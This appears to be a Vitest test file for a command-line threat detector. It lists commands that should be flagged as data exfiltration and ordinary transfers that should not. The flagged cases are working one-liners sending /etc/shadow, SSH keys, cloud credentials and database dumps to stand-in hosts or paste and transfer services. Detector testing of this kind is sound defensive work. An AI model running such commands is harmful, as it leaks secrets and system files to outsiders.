// Uploads are found by what is sent and where; downloads, calls of interfaces and deployments are not.
import { expect, test } from 'vitest';
import { judgeLine } from '../../../../detectors/process/threats/verdict/judge.ts';

test.each([
  "curl -F 'file=@/etc/shadow' http://10.9.8.7:8000/up",
  'curl --upload-file /home/ana/.ssh/id_rsa https://drop.example/x',
  'curl -k --data-binary @/var/backups/all.sql https://10.9.8.7/',
  'tar czf - /etc /home | curl -T - http://10.9.8.7/',
  'tar cf - /srv/data | base64 | curl -X POST --data-binary @- https://drop.example',
  'wget --post-file=/etc/passwd http://10.9.8.7/',
  'wget --method=PUT --body-file=/srv/db.dump https://drop.example/',
  'scp -o StrictHostKeyChecking=no /root/.ssh/id_rsa drop@10.9.8.7:/tmp/',
  'rsync -az /home/ana/.gnupg drop@10.9.8.7:loot/',
  "sftp drop@10.9.8.7:/up <<< 'put /etc/shadow'",
  'aws s3 cp /home/ana/.aws/credentials s3://bucket/',
  'gsutil cp /root/.kube/config gs://bucket/',
  'rclone copy /root/.ssh remote:loot --config /tmp/.r.conf',
  'curl -F document=@/srv/dump.sql https://api.telegram.org/bot1:x/sendDocument',
  "curl -F 'file=@/srv/keys.tar' https://transfer.sh",
  "cat /etc/shadow | curl -F 'sprunge=<-' http://sprunge.us",
  'restic -r rest:http://10.9.8.7/ backup /etc/shadow',
  'tftp 10.9.8.7 -c put /etc/shadow',
  "smbclient //10.9.8.7/share -c 'put /etc/passwd x'",
  "lftp -e 'put /root/.ssh/id_rsa; bye' 10.9.8.7",
  'gcloud storage cp /root/.ssh/id_rsa gs://bucket',
  'az storage blob upload -f /etc/shadow -c x -n y',
  'croc send /etc/shadow',
])('%s', (line) => {
  expect(judgeLine(line)).toMatchObject({ threat: true });
});

test('the category is its own', () => {
  expect(judgeLine("curl -F 'file=@/etc/shadow' http://10.9.8.7:8000/up").category).toBe('data_exfiltration');
});

test.each([
  'curl -fsSL https://example.org/x.tgz -o x.tgz',
  "curl -X POST -H 'Content-Type: application/json' -d '{\"a\":1}' https://api.example.org/v1",
  'curl -d @payload.json http://localhost:9200/_bulk',
  'wget -q https://example.org/x',
  'rsync -a --delete /srv/data/ backup01:/srv/data/',
  'scp build.tgz deploy@web1:/srv/',
  'aws s3 sync dist/ s3://site',
  'rclone sync /srv/media b2:media',
  'restic backup /srv/data',
])('ordinary: %s', (line) => {
  expect(judgeLine(line).threat).toBe(false);
});
